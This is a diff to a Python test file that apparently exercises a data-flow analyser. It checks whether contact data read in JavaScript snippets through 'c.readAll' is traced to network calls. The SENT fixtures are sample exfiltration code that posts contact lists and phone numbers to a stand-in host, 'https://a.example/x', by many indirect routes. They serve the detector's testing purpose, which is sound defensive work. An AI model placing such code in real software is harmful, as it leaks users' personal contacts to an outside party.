@@ -21,6 +21,17 @@ SENT = {
     "resolved": "function all(){ return new Promise(function(r){ c.readAll(function(p){ r(p) }) }) } async function go(){ const p=await all(); fetch('https://a.example/x',{body:p}) }",
     "done": "function all(done){ c.readAll(function(p){ done(p) }) } all(function(p){ fetch('https://a.example/x',{body:p}) })",
     "xhr": "c.readAll(function(p){ var x=new XMLHttpRequest(); x.open('POST','https://a.example/x'); x.send(JSON.stringify(p)) })",
+    "joined to a text": "c.readAll(function(p){ var s=''; p.forEach(function(o){ s+=o.name+',' }); fetch('https://a.example/x',{body:s}) })",
+    "put into an object": "c.readAll(function(p){ var d={}; d.list=p; fetch('https://a.example/x',{body:JSON.stringify(d)}) })",
+    "put into an object within one": "var t={form:{}}; c.readAll(function(p){ t.form.list=p }); function up(){ fetch('https://a.example/x',{body:t.form}) }",
+    "put into rows": "c.readAll(function(p){ var l=[]; for(var i=0;i<p.length;i++){ l[i]=p[i].phone } fetch('https://a.example/x',{body:l}) })",
+    "pushed into a member": "var t={rows:[]}; c.readAll(function(p){ p.forEach(o=>t.rows.push(o)) }); function up(){ fetch('https://a.example/x',{body:t.rows}) }",
+    "in a name of the page": "c.readAll(function(p){ people=p }); function up(){ fetch('https://a.example/x',{body:people}) }",
+    "taken apart": "c.readAll(function(p){ let a; [a]=p; fetch('https://a.example/x',{body:a}) })",
+    "taken out of an object": "c.readAll(function(p){ const d={list:p,token:t}; const {list}=d; fetch('https://a.example/x',{body:list}) })",
+    "handed on in an object": "function up({list:l,token:k}){ fetch('https://a.example/x',{body:l}) } c.readAll(function(p){ up({list:p,token:t}) })",
+    "by its own name in two objects": "c.readAll(function(p){ var d={list:p}; var e={d,token:t}; fetch('https://a.example/x',{body:e.d.list}) })",
+    "by an unknown name": "c.readAll(function(p){ var d={}; d.list=p; for(var k in d){ fetch('https://a.example/x',{body:d[k]}) } })",
 }
 KEPT = {
     "shown": "c.readAll(function(p){ p.forEach(function(o){ list.add(o.name) }) }); fetch('https://a.example/x',{body:amount})",
@@ -28,23 +39,32 @@ KEPT = {
     "something else": "c.readAll(function(p){ show(p); fetch('https://a.example/x',{body:form}) })",
     "logged": "c.readAll(function(p){ console.log(p) })",
     "compared": "c.readAll(function(p){ fetch('https://a.example/x',{body:p===null}) })",
+    "beside it in an object": "c.readAll(function(p){ var d={list:p,token:t}; show(d.list); fetch('https://a.example/x',{body:d.token}) })",
+    "beside it in an object that is filled": "var d={}; c.readAll(function(p){ d.list=p }); function up(){ fetch('https://a.example/x',{body:d.token}) }",
+    "beside it in what is handed on": "function up({list:l,token:k}){ show(l); fetch('https://a.example/x',{body:k}) } c.readAll(function(p){ up({list:p,token:t}) })",
+    "beside its own name in two objects": "c.readAll(function(p){ var d={list:p}; var e={d,token:t}; fetch('https://a.example/x',{body:e.token+e.d.size}) })",
+    "on the page": "c.readAll(function(p){ box.innerHTML=p[0].name }); fetch('https://a.example/x',{body:other.innerHTML})",
 }
 
 
-def sent(script):
+def carried(script):
     scripts = Scripts((Source("app.js", script.encode()),))
     assert scripts.sources[0].is_whole
     runs = Runs(scripts, find_dialogs(scripts))
-    return sent_by(runs, list(scripts.calls([".readAll"]))).sent
+    return sent_by(runs, list(scripts.calls([".readAll"])))
 
 
 @pytest.mark.parametrize("name", SENT)
 def test_what_is_carried_to_a_call_that_sends_is_sent(name):
-    found = sent(SENT[name])
+    found = carried(SENT[name]).sent
     assert len(found) == 1
     assert name == "xhr" or found[0].address.startswith("https://a.example")
 
 
 @pytest.mark.parametrize("name", KEPT)
 def test_what_is_not_carried_there_is_not(name):
-    assert sent(KEPT[name]) == ()
+    assert carried(KEPT[name]).sent == ()
+
+
+def test_what_is_put_under_a_name_that_tells_nothing_is_not_followed_to_its_end():
+    assert not carried("c.readAll(function(p){ t.a=p })").is_whole
